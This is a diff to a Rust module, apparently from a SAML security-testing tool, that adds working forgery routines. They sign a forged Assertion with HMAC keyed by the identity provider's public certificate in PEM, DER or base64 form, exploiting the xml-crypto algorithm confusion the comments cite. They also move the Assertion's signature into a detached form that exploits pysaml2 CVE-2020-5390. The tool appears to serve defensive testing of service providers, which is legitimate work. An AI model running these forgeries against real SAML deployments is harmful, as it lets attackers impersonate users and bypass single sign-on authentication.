@@ -1,9 +1,12 @@
 //! Signature presence and key trust: no signature, the attacker's own key in every KeyInfo
 //! shape, a cloned certificate, a tampered or degenerate signature.
 
-use crate::bytes::{splice, Doc, DSIG_NS};
+use base64::Engine;
+use openssl::hash::MessageDigest;
+
+use crate::bytes::{after_start_tag, attr_value, before_end_tag, splice, Doc, DSIG_NS};
 use crate::crypto;
-use crate::family::{forge_document, forged, strip_signatures};
+use crate::family::{forge_document, forged, strip_signatures, Parts};
 use crate::forge::{Forge, Forged, Skip};
 
 /// Every Signature removed; identity forged.
@@ -86,4 +89,143 @@ pub fn empty_signature_value(f: &Forge) -> Result<Forged, Skip> {
 /// Identity forged and every DigestValue emptied.
 pub fn empty_digest_value(f: &Forge) -> Result<Forged, Skip> {
     emptied(f, "DigestValue")
+}
+
+/// Which bytes of the IdP certificate a confused verifier uses as the HMAC secret.
+#[derive(Clone, Copy)]
+enum HmacKey {
+    /// The PEM text (64-column lines, final newline), as apps configure `cert`.
+    Pem,
+    /// The DER bytes.
+    Der,
+    /// The base64 body on one line, as in metadata and Entra's "Certificate (Base64)".
+    Base64,
+}
+
+/// The Assertion forged and "signed" with HMAC, the secret being the IdP's public
+/// certificate (xml-crypto <= 1.5.3, GHSA-c27r-x354-4m68; CVE-2018-7644 family).
+fn hmac_signed(f: &Forge, uri: &str, digest: MessageDigest, form: HmacKey) -> Result<Forged, Skip> {
+    let doc = Doc::parse(f.seed)?;
+    let cert = crypto::seed_certificate(&doc)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_assertion_sig()?;
+    let id = p.assertion_id().to_owned();
+    let (mut edits, swap) =
+        crate::identity::rewrite_edits(&doc, p.assertion.range(), &crate::identity::target_of);
+    if let Some(r) = p.response_sig {
+        edits.push((r.range(), String::new()));
+    }
+    let method = sig
+        .descendants()
+        .find(|n| n.has_tag_name((DSIG_NS, "SignatureMethod")))
+        .and_then(|m| attr_value(m, "Algorithm"))
+        .ok_or_else(|| Skip("the signature has no SignatureMethod".into()))?;
+    edits.push((method, uri.to_owned()));
+    if let Some(k) = crate::bytes::child(sig, DSIG_NS, "KeyInfo") {
+        edits.push((k.range(), String::new()));
+    }
+    let xml = splice(doc.src, edits);
+    let digest_method = crypto::seed_digest_method(sig);
+    let xml = set_text(
+        &xml,
+        "DigestValue",
+        &crypto::reference_digest(&xml, &id, digest_method)?,
+    )?;
+    let key = match form {
+        HmacKey::Pem => cert.to_pem().map_err(|e| Skip(e.to_string()))?,
+        HmacKey::Der => cert.to_der().map_err(|e| Skip(e.to_string()))?,
+        HmacKey::Base64 => base64::engine::general_purpose::STANDARD
+            .encode(cert.to_der().map_err(|e| Skip(e.to_string()))?)
+            .into_bytes(),
+    };
+    let mac = crypto::hmac(digest, &key, crypto::signed_info_c14n(&xml, 0)?.as_bytes())?;
+    let value = base64::engine::general_purpose::STANDARD.encode(mac);
+    forged(set_text(&xml, "SignatureValue", &value)?, swap)
+}
+
+/// Replaces the text of the first `ds:{element}`.
+fn set_text(xml: &str, element: &str, text: &str) -> Result<String, Skip> {
+    let doc = Doc::parse(xml)?;
+    let n = doc
+        .tree
+        .descendants()
+        .find(|n| n.has_tag_name((DSIG_NS, element)))
+        .ok_or_else(|| Skip(format!("no {element}")))?;
+    Ok(splice(
+        xml,
+        vec![(
+            after_start_tag(xml, n)..before_end_tag(xml, n),
+            text.to_owned(),
+        )],
+    ))
+}
+
+const HMAC_SHA1: &str = "http://www.w3.org/2000/09/xmldsig#hmac-sha1";
+const HMAC_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256";
+
+/// HMAC-SHA1 keyed with the certificate's PEM text.
+pub fn hmac_sha1(f: &Forge) -> Result<Forged, Skip> {
+    hmac_signed(f, HMAC_SHA1, MessageDigest::sha1(), HmacKey::Pem)
+}
+
+/// HMAC-SHA256 keyed with the certificate's PEM text.
+pub fn hmac_sha256(f: &Forge) -> Result<Forged, Skip> {
+    hmac_signed(f, HMAC_SHA256, MessageDigest::sha256(), HmacKey::Pem)
+}
+
+/// HMAC-SHA384 keyed with the certificate's PEM text.
+pub fn hmac_sha384(f: &Forge) -> Result<Forged, Skip> {
+    hmac_signed(
+        f,
+        "http://www.w3.org/2001/04/xmldsig-more#hmac-sha384",
+        MessageDigest::sha384(),
+        HmacKey::Pem,
+    )
+}
+
+/// HMAC-SHA512 keyed with the certificate's PEM text.
+pub fn hmac_sha512(f: &Forge) -> Result<Forged, Skip> {
+    hmac_signed(
+        f,
+        "http://www.w3.org/2001/04/xmldsig-more#hmac-sha512",
+        MessageDigest::sha512(),
+        HmacKey::Pem,
+    )
+}
+
+/// HMAC-SHA256 keyed with the certificate's DER bytes.
+pub fn hmac_der(f: &Forge) -> Result<Forged, Skip> {
+    hmac_signed(f, HMAC_SHA256, MessageDigest::sha256(), HmacKey::Der)
+}
+
+/// HMAC-SHA256 keyed with the certificate's one-line base64.
+pub fn hmac_base64(f: &Forge) -> Result<Forged, Skip> {
+    hmac_signed(f, HMAC_SHA256, MessageDigest::sha256(), HmacKey::Base64)
+}
+
+/// The Assertion's Signature moved to the Response (a detached signature still pointing at
+/// `#a1`, the original unsigned inside its ds:Object); the Assertion forged, unsigned, new ID
+/// (pysaml2 CVE-2020-5390: signatures not checked to be enveloped).
+pub fn detached(f: &Forge) -> Result<Forged, Skip> {
+    let doc = Doc::parse(f.seed)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_assertion_sig()?;
+    if p.response_sig.is_some() {
+        return Err(Skip(
+            "the Response is signed too; the detached shape needs it unsigned".into(),
+        ));
+    }
+    let object = format!(
+        "<ds:Object xmlns:ds=\"{DSIG_NS}\">{}</ds:Object>",
+        p.assertion_unsigned()
+    );
+    let raw = doc.outer(sig);
+    let at = before_end_tag(raw, Doc::parse(raw)?.root());
+    let moved = format!("{}{object}{}", &raw[..at], &raw[at..]);
+    let (evil, swap) = p.forged_assertion(Some(&crate::family::evil_id(p.assertion_id())));
+    let edits = vec![
+        (p.assertion.range(), evil),
+        crate::bytes::insert(p.after_response_header(), moved),
+    ];
+    forged(splice(doc.src, edits), swap)
 }
